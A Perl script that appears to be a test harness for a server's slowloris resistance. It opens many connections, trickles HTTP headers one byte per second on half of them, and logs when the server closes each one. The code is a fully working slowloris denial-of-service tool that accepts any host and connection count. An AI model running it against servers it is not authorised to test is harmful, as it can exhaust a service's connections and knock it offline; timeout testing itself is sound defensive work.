#!/usr/bin/perl
# slowloris.pl HOST PORT COUNT SECONDS OUT: opens COUNT connections; the
# even ones send a request's headers one byte a second (never finishing
# them), the odd ones send nothing. Runs for at most SECONDS, then writes
# one line per connection to OUT: "closed <s>" with the seconds after which
# the server dropped it, or "open" if it never did.
use strict;
use warnings;
use IO::Socket::INET;
use IO::Select;
use Time::HiRes qw(time sleep);
$SIG{PIPE} = 'IGNORE';
my ($host, $port, $count, $limit, $out) = @ARGV;
my $t0 = time;
my (@socks, %closed);
for my $i (1 .. $count) {
    my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp')
        or die "connect $i: $!";
    $s->blocking(0);
    push @socks, $s;
}
my $head = "GET /api/health HTTP/1.1\r\nHost: x\r\nX-Slow: " . ("a" x 10000);
my $pos = 0;
while (time - $t0 < $limit && keys %closed < @socks) {
    my $byte = substr($head, $pos++ % length($head), 1);
    for my $i (0 .. $#socks) {
        next if exists $closed{$i};
        my $s = $socks[$i];
        my $buf;
        my $n = sysread($s, $buf, 4096);
        my $w = $i % 2 ? 1 : syswrite($s, $byte);
        if ((defined $n && $n == 0) || (!defined $w && !$!{EAGAIN})) {
            $closed{$i} = time - $t0;
        }
    }
    sleep 1;
}
open my $fh, '>', $out or die "$out: $!";
for my $i (0 .. $#socks) {
    print $fh exists $closed{$i} ? sprintf("closed %.1f\n", $closed{$i}) : "open\n";
}
close $fh;
